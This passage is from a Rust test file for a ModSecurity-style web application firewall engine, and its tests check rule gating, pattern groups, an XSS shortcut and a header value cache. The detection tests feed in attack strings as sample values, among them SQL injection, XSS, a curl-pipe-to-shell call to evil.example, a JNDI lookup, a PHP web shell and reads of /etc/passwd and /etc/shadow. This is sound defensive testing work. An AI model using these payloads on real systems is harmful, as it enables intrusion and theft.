SecRule ARGS:off "@rx ." "id:5,phase:1,pass,nolog,ctl:ruleRemoveById=10"
SecRule ARGS:path "@rx ." "id:6,phase:1,pass,nolog,ctl:ruleRemoveTargetById=10;REQUEST_FILENAME"
SecRule TX:pl "@lt 2" "id:10,phase:2,pass,log"
SecRule TX:pl "@lt 1" "id:11,phase:2,pass,log"
SecRule TX:mode "@streq on" "id:12,phase:2,pass,log"
SecRule TX:made_xx "@eq 1" "id:13,phase:2,pass,log"
SecRule TX:1 "@streq xx" "id:14,phase:2,pass,log"
SecRule TX:pl "@lt 2" "id:15,phase:2,pass,log,msg:'at %{tx.pl}'"
SecRule TX:pl "@lt 2" "id:16,phase:2,pass,log,setvar:tx.seen=%{matched_var}"
SecRule TX:seen "@eq 1" "id:17,phase:2,pass,log,msg:'seen %{tx.seen}'"
SecRule REQUEST_COOKIES|REQUEST_COOKIES_NAMES "@rx ." "id:20,phase:2,pass,log"
SecRule XML:/* "@rx ." "id:21,phase:2,pass,log"
SecRule REQUEST_COOKIES|!REQUEST_COOKIES:a "@rx ." "id:22,phase:2,pass,log"
SecRule &REQUEST_COOKIES "@eq 0" "id:23,phase:2,pass,log"
SecRule ARGS "!@rx zzz" "id:24,phase:2,pass,log"
SecRule REQUEST_COOKIES:a "@rx ^b$" "id:25,phase:2,pass,log"
"#;
    let c = crs(rules);
    use gate::Gate;
    // Fixed by the prelude: `tx.pl` is set by nothing after it.
    assert!(matches!(gate_of(&c, 10), Gate::Always(_)));
    assert_eq!(gate_of(&c, 11), Gate::Never);
    // Set after the prelude: by name, by a name a macro makes, by `capture`.
    for id in [12, 13, 14] {
        assert_eq!(gate_of(&c, id), Gate::Open, "{id}");
    }
    // A fixed match still runs the rule's actions and expands its message.
    assert!(matches!(gate_of(&c, 15), Gate::Always(_)));
    assert!(matches!(gate_of(&c, 16), Gate::Always(_)));
    assert_eq!(gate_of(&c, 17), Gate::Open);
    // A grouped `@rx` over whole collections is decided by the group's unions.
    assert!(matches!(gate_of(&c, 20), Gate::Grouped { .. }));
    assert!(matches!(
        gate_of(&c, 21),
        Gate::Reads(b) | Gate::Grouped { reads: b, .. } if b & gate::XML != 0
    ));
    // So is one that reads a named member, by its whole collection's union: the member
    // alone decides it when it is evaluated (see the cookies below).
    assert!(matches!(gate_of(&c, 25), Gate::Grouped { .. }));
    // `&` counts have a value even for an empty collection.
    assert_eq!(gate_of(&c, 23), Gate::Open);

    assert_eq!(ids(&c, "/"), [10, 12, 15, 16, 17, 23]);
    let out = c.evaluate_request(&get("/"), "127.0.0.1");
    let msgs: Vec<_> = out
        .matches
        .iter()
        .filter_map(|m| m.msg.as_deref())
        .collect();
    assert_eq!(msgs, ["at 1", "seen 1"]);
    assert_eq!(ids(&c, "/?set=off"), [10, 15, 16, 17, 23, 24]);
    assert_eq!(ids(&c, "/?cap=xx"), [10, 12, 13, 14, 15, 16, 17, 23, 24]);
    // A removed target or rule is honoured by a fixed verdict.
    assert_eq!(ids(&c, "/?rm=1"), [12, 15, 16, 17, 23, 24]);
    assert_eq!(ids(&c, "/?off=1"), [12, 15, 16, 17, 23, 24]);
    // A removed target of another collection leaves fixed verdicts in force.
    assert_eq!(ids(&c, "/?path=1"), [10, 12, 15, 16, 17, 23, 24]);
    let (path, rm) = (get("/?path=1"), get("/?rm=1"));
    let mut t = c.transaction(&path, "127.0.0.1");
    t.run(1);
    assert!(t.state.from_prelude && !t.removes_tx_targets());
    let mut t = c.transaction(&rm, "127.0.0.1");
    t.run(1);
    assert!(t.removes_tx_targets());
    // (In the second, another cookie holds `b`: the gate lets 25 through, and its own
    // member does not match.)
    for (cookie, expected) in [
        ("a=b", [10, 12, 15, 16, 17, 20, 25]),
        ("x=b; a=c", [10, 12, 15, 16, 17, 20, 22]),
    ] {
        let with_cookie = get_with("/", "cookie", cookie);
        let out = c.evaluate_request(&with_cookie, "127.0.0.1");
        assert_eq!(logged(&out), expected, "{cookie}");
        assert_eq!(out, without_prelude(&c, &with_cookie), "{cookie}");
    }
    same_without_prelude(
        &c,
        &[
            "/",
            "/?set=off",
            "/?set=on",
            "/?cap=xx",
            "/?rm=1",
            "/?off=1",
            "/?path=1",
            "/?rm=1&path=1",
            "/?cap=x&set=y",
        ],
    );
}

#[test]
fn the_static_start_of_phase_one_is_run_once_at_load() {
    let rules = r#"
SecDefaultAction "phase:1,log,pass"
SecDefaultAction "phase:2,log,pass"
SecAction "id:1,phase:1,nolog,pass,setvar:tx.pl=1,setvar:tx.seen=0"
SecRule &TX:limit "@eq 0" "id:2,phase:1,nolog,pass,setvar:tx.limit=3"
SecRule TX:pl "@lt 2" "id:3,phase:1,nolog,pass,skipAfter:END-PL2"
SecRule ARGS "@rx pl2" "id:4,phase:1,block"
SecMarker END-PL2
SecRule &TX:other "@eq 1" "id:5,phase:1,pass,setvar:tx.ua=%{request_headers.user-agent}"
SecRule ARGS "@rx a" "id:6,phase:1,pass,setvar:tx.seen=+1"
SecRule TX:seen "@ge 1" "id:7,phase:1,pass"
SecRule TX:limit "@eq 3" "id:8,phase:2,pass,msg:'limit %{tx.limit}'"
"#;
    let c = crs(rules);
    // The prelude ends where a rule reads the request: rule 6. Rule 5 reads only TX and does
    // not match, so its request macro never expands; rule 4 is skipped.
    let prelude = c.prelude.as_ref().unwrap();
    let at = |id: u32| {
        c.phases[0]
            .iter()
            .position(|s| matches!(s, Step::Rule(r) if c.rules[*r].id == id))
            .unwrap()
    };
    assert_eq!(prelude.resume, at(6));
    let got: Vec<u32> = prelude.outcome.matches.iter().map(|m| m.id).collect();
    assert_eq!(got, [1, 2, 3]);
    // Rule 7 reads TX too, but after rule 6 may have changed it: it runs per request.
    assert_eq!(ids(&c, "/?q=a"), [6, 7, 8]);
    assert_eq!(ids(&c, "/?q=b&x=pl2"), [8]);
    same_without_prelude(&c, &["/", "/?q=a", "/?q=b&x=pl2", "/?a=aaa&b=a"]);
    let out = c.evaluate_request(&get("/"), "127.0.0.1");
    assert_eq!(out.matches.last().unwrap().msg.as_deref(), Some("limit 3"));

    // A static rule that denies denies every request, from the prelude.
    let c = crs(r#"
SecRule &TX:crs_setup_version "@eq 0" "id:9,phase:1,deny,status:500,log"
SecRule ARGS "@rx a" "id:10,phase:1,pass,log"
"#);
    assert_eq!(c.prelude.as_ref().unwrap().outcome.status, Some(500));
    let ex = get("/?q=a");
    let out = c.evaluate_request(&ex, "127.0.0.1");
    assert_eq!(out.status, Some(500));
    assert_eq!(out, without_prelude(&c, &ex));
}

#[test]
fn the_core_rule_set_decides_the_same_with_and_without_its_prelude() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs");
    let c = Crs::load_dir(&dir, "", "").unwrap();
    let prelude = c.prelude.as_ref().unwrap();
    assert!(prelude.resume > 10, "CRS's initialisation is static");
    same_without_prelude(
        &c,
        &[
            "/",
            "/?q=blue+shoes&page=2",
            "/?id=1%27%20or%201=1--",
            "/?x=%3Cscript%3Ealert(1)%3C/script%3E",
        ],
    );
}

#[test]
fn each_pattern_alone_agrees_with_its_group_search() {
    // A value that few patterns of a group could match is searched by those patterns alone:
    // each must match exactly when the group's search says it does, and a pattern whose
    // needed bytes the value lacks must not match at all.
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs");
    let c = Crs::load_dir(&dir, "", "").unwrap();
    let values: &[&[u8]] = &[
        b"Could you summarise the differences between renewable and fossil energy?",
        b"blue running shoes",
        b"1' OR '1'='1' --",
        b"1 union select password from users",
        b"<script>alert(document.cookie)</script>",
        b"<img src=x onerror=alert(1)>",
        b"; cat /etc/passwd",
        b"$(curl http://evil.example/x.sh | sh)",
        b"../../../../etc/shadow",
        b"${jndi:ldap://evil.example/a}",
        b"<?php system($_GET['c']); ?>",
        b"eval(base64_decode('ZWNobyAx'))",
        b"http://169.254.169.254/latest/meta-data/",
        b"{{7*7}}",
        b"\r\nSet-Cookie: a=b",
        b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
        // Phrases of CRS's data files, in other cases.
        b"GET /ETC/PASSWD",
        b"java.lang.Runtime.getRuntime().EXEC(cmd)",
        b"Invoke-WebRequest -Uri x; Get-ChildItem",
        b"$_SERVER['HTTP_HOST'] . PHP_EOL",
    ];
    let mut checked = 0;
    let mut phrase_groups = 0;
    for g in c.groups.iter().filter(|g| !g.single) {
        phrase_groups += usize::from(matches!(g.search, super::Search::Phrases { .. }));
        for value in values {
            let mut set = regex_automata::PatternSet::new(GROUP_SIZE);
            let found = g.all_matches(value, &mut set).unwrap();
            let bytes = needs::ByteSet::of(value);
            for (i, (needs, re)) in g.solo.iter().enumerate() {
                let in_group = found & (1 << i) != 0;
                if needs.is_some_and(|n| !n.intersects(bytes)) {
                    assert!(!in_group, "pattern {i} matched without a byte it needs");
                }
                if let Some(re) = re {
                    assert_eq!(re.is_match(*value), in_group, "pattern {i} on {value:?}");
                    checked += 1;
                }
            }
        }
    }
    assert!(checked > 1000, "{checked}");
    // (CRS's `@pm` and `@pmFromFile` links are grouped too.)
    assert!(phrase_groups >= 4, "{phrase_groups}");
}

#[test]
fn the_xss_shortcut_agrees_with_libinjection() {
    // Values with neither `<` nor `=`: libinjection must find no XSS in any of them, so
    // skipping it loses nothing.
    let full = |v: &[u8]| libinjectionrs::detect_xss(v).is_injection();
    let pieces: &[&[u8]] = &[
        b"'",
        b"\"",
        b"`",
        b">",
        b"/",
        b" ",
        b"\t",
        b"\n",
        b"\x0b",
        b"\x0c",
        b"\r",
        b"!",
        b"-",
        b"--",
        b"?",
        b"%",
        b"&",
        b"#",
        b":",
        b";",
        b"(",
        b")",
        b"\\",
        b"\0",
        b"on",
        b"onerror",
        b"onload",
        b"javascript",
        b"vbscript",
        b"style",
        b"src",
        b"href",
        b"xlink:href",
        b"formaction",
        b"import",
        b"IMPORT",
        b"entity",
        b"ENTITY",
        b"[if",
        b"xml",
        b"DOCTYPE",
        b"!DOCTYPE",
        b"script",
        b"alert(1)",
        b"a",
        b"x",
        b"data",
        b"&#x3c;",
        b"&lt;",
    ];
    // Every string of up to three pieces, then long random ones.
    let mut checked = 0;
    for a in pieces {
        for b in pieces {
            for c in pieces {
                let v = [*a, *b, *c].concat();
                assert!(!full(&v), "{v:?}");
                checked += 1;
            }
        }
    }
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    for _ in 0..50_000 {
        let mut v = Vec::new();
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        for n in 0..(state % 12) {
            let pick = (state >> (n * 5)) as usize % pieces.len();
            v.extend_from_slice(pieces[pick]);
        }
        assert!(!full(&v), "{v:?}");
        assert!(!exec::detect_xss(&v));
        checked += 1;
    }
    assert!(checked > 100_000, "{checked}");
    // Values with `<` or `=` still reach libinjection.
    assert!(exec::detect_xss(b"<script>alert(1)</script>"));
    assert!(exec::detect_xss(b"x onerror=alert(1)"));
    assert!(exec::detect_xss(b"\" onmouseover=alert(1) x=\""));
}

#[test]
fn a_macro_operator_built_at_load_is_used_only_while_its_variable_is_unchanged() {
    let c = crs(r#"
SecAction "id:1,phase:1,nolog,pass,setvar:tx.allowed=GET POST"
SecRule ARGS:m "@rx ." "id:2,phase:1,nolog,pass,setvar:tx.allowed=%{matched_var}"
SecRule REQUEST_METHOD "!@within %{tx.allowed}" "id:3,phase:1,log,pass"
"#);
    let rule = c.rules.iter().find(|r| r.id == 3).unwrap();
    assert!(matches!(
        &rule.links[0].op,
        Op::Macro { preset: Some(p), .. } if p.tx == "allowed" && p.value == b"GET POST"
    ));
    assert!(ids(&c, "/").is_empty());
    // The request changes the variable: the operator is built from its new value.
    assert_eq!(ids(&c, "/?m=PUT"), [3]);
    assert!(ids(&c, "/?m=GET").is_empty());
}

#[test]
fn request_body_holds_only_bodies_no_processor_parsed() {
    // A grouped `@rx` over REQUEST_BODY and ARGS: a JSON body is read as arguments, not as
    // REQUEST_BODY (as ModSecurity does), by the rule and by its group's unions alike; a
    // form or plain-text body is REQUEST_BODY too.
    let c = crs(r#"
SecDefaultAction "phase:2,log,pass"
SecRule REQUEST_BODY "@rx attack" "id:1,phase:2,pass,log"
SecRule REQUEST_BODY|ARGS "@rx attack" "id:2,phase:2,pass,log"
SecRule REQUEST_BODY "@rx \{" "id:3,phase:2,pass,log"
"#);
    let post = |ct: &str, body: &[u8]| {
        let (parts, ()) = http::Request::post("/")
            .header("content-type", ct)
            .body(())
            .unwrap()
            .into_parts();
        logged(&c.evaluate_request(
            &Exchange::from_request(&parts, body, ParseOptions::default()),
            "127.0.0.1",
        ))
    };
    assert_eq!(post("application/json", br#"{"a":"attack"}"#), [2]);
    assert_eq!(
        post("application/x-www-form-urlencoded", b"a=attack"),
        [1, 2]
    );
    assert_eq!(post("text/plain", b"{attack"), [1, 2, 3]);
}

/// A header value met again takes its pattern verdicts from the thread's value cache, and
/// the outcome is the one a rule set without the cache reaches, value by value and in any
/// order; argument values are never kept.
#[test]
fn header_verdicts_kept_across_transactions_decide_as_a_fresh_search_does() {
    let rules = r#"
SecRule REQUEST_HEADERS "@rx (?i)<script" "id:21,phase:1,log,pass,t:none,t:urlDecodeUni"
SecRule REQUEST_HEADERS|ARGS "@rx union\s+select" "id:22,phase:1,log,pass,t:none,t:lowercase"
SecRule REQUEST_HEADERS:X-Probe "@rx ^probe-(\d+)$" "id:23,phase:1,log,pass,capture,setvar:'tx.probe=%{tx.1}',chain"
    SecRule TX:probe "@gt 5" ""
SecRule REQUEST_HEADERS_NAMES "@rx ^x-evil" "id:24,phase:1,log,pass"
SecRule ARGS_NAMES "@rx ^cmd$" "id:25,phase:1,log,pass"
"#;
    let cached = crs(rules);
    let mut fresh = crs(rules);
    fresh.set_value_cache(0);
    let requests = [
        ("/?a=1", "x-probe", "probe-9"),
        ("/?a=1", "x-probe", "probe-2"),
        ("/?a=1", "x-probe", "probe-9"),
        ("/?cmd=1", "x-other", "%3Cscript%3E"),
        ("/?a=1", "x-other", "%3Cscript%3E"),
        ("/?a=UNION%20SELECT", "x-other", "plain"),
        ("/?a=1", "x-other", "Union  Select"),
        ("/?a=1", "x-evil-thing", "plain"),
        ("/?a=1", "x-other", "plain"),
        ("/?cmd=1", "x-other", "plain"),
        ("/?a=1", "x-probe", "probe-2"),
    ];
    let mut seen = Vec::new();
    for round in 0..2 {
        for (uri, name, value) in requests {
            let ex = get_with(uri, name, value);
            let want = logged(&fresh.evaluate_request(&ex, "127.0.0.1"));
            let got = logged(&cached.evaluate_request(&ex, "127.0.0.1"));
            assert_eq!(got, want, "round {round}: {uri} {name}: {value}");
            seen.push(got);
        }
    }
    // (The rules fire where they should, so the comparison above means something.)
    assert_eq!(seen[0], [23]);
    assert!(seen[1].is_empty());
    assert_eq!(seen[3], [21, 25]);
    assert_eq!(seen[5], [22]);
    assert_eq!(seen[6], [22]);
    assert_eq!(seen[7], [24]);
    // Header values and names, and argument names, are kept; argument values are not.
    let kept = exec::cached_values(&cached);
    assert!(kept >= 8, "{kept}");
    assert_eq!(exec::cached_values(&fresh), 0);
}

/// The cache holds at most as many values as the rule set allows: a full one starts again.
#[test]
fn the_value_cache_is_bounded() {
    let mut c = crs(r#"SecRule REQUEST_HEADERS "@rx (?i)<script" "id:21,phase:1,log,pass""#);
    c.set_value_cache(4);
    for n in 0..50 {
        let value = format!("value-{n}");
        let out = c.evaluate_request(&get_with("/", "x-n", &value), "127.0.0.1");
        assert!(logged(&out).is_empty());
        assert!(exec::cached_values(&c) <= 4, "{}", exec::cached_values(&c));
    }
    let out = c.evaluate_request(&get_with("/", "x-n", "<SCRIPT>"), "127.0.0.1");
    assert_eq!(logged(&out), [21]);
    let out = c.evaluate_request(&get_with("/", "x-n", "<SCRIPT>"), "127.0.0.1");
    assert_eq!(logged(&out), [21]);
}
